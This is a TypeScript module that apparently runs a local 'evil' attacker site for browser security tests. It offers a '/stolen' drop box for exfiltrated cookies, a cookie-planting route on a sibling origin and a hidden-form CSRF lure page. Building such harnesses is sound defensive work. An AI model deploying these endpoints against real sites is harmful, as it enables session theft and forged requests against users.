import { EventEmitter, once } from 'node:events'
import { createServer, type RequestListener } from 'node:http'
import { createServer as createSecureServer } from 'node:https'
import type { AddressInfo } from 'node:net'
import type { Certificate } from '../../demo/certificate.ts'
import type { Form } from './target.ts'

/**
 * The attacker's own site, under two names. `evil.localhost` is another site than `localhost`, with no DNS to set up: browsers
 * take every name below localhost for this machine. `localhost` with another port is another origin of the same site, as a forgotten
 * sibling application is.
 */
export interface EvilSite {
  readonly crossSite: string
  readonly sibling: string
  /** The address of a page with one button, which posts this form to the target. */
  page(origin: string, action: string, fields: Form['fields']): string
  /** The address of a page that sets this cookie, attributes and all. Cookies ignore ports. */
  planting(cookie: string): string
  /** Where scripts send what they steal. */
  readonly dropBox: string
  /** The next thing that is sent there. */
  stolen(): Promise<string>
  stop(): Promise<void>
}

/** With a certificate, over https, and `sibling` is a host beside the one of the target. */
export async function evilSite(certificate?: Certificate): Promise<EvilSite> {
  const thefts = new EventEmitter()
  const planted: string[] = []
  const listener: RequestListener = (request, response) => {
    const { pathname, searchParams } = new URL(request.url ?? '/', 'http://localhost')
    const page = (html: string) =>
      response.writeHead(200, { 'content-type': 'text/html' }).end(`<!DOCTYPE html>${html}`)
    if (pathname === '/stolen') {
      thefts.emit('theft', searchParams.get('cookie') ?? '')
      response.writeHead(204).end()
    } else if (pathname === '/plant') {
      response.setHeader('set-cookie', planted[Number(searchParams.get('no'))] ?? '')
      page('<p>Welcome</p>')
    } else if (pathname === '/win') {
      const { action, ...fields } = Object.fromEntries(searchParams)
      const inputs = Object.entries(fields).map(
        ([name, value]) => `<input type=hidden name="${name}" value="${value}">`,
      )
      page(`<form method=post action="${action}">${inputs.join('')}<button>Win a coat</button></form>`)
    } else response.writeHead(404).end()
  }
  const server = certificate ? createSecureServer(certificate, listener) : createServer(listener)
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  const crossSite = `${certificate ? 'https' : 'http'}://evil.localhost:${port}`
  const sibling = certificate ? `https://evil.shop.localhost:${port}` : `http://localhost:${port}`
  return {
    crossSite,
    sibling,
    page: (origin, action, fields) => `${origin}/win?${new URLSearchParams({ ...fields, action })}`,
    planting: (cookie) => `${sibling}/plant?no=${planted.push(cookie) - 1}`,
    dropBox: `${crossSite}/stolen`,
    async stolen() {
      const [cookie] = await once(thefts, 'theft')
      return cookie
    },
    async stop() {
      server.closeAllConnections()
      await new Promise((resolve) => server.close(resolve))
    },
  }
}
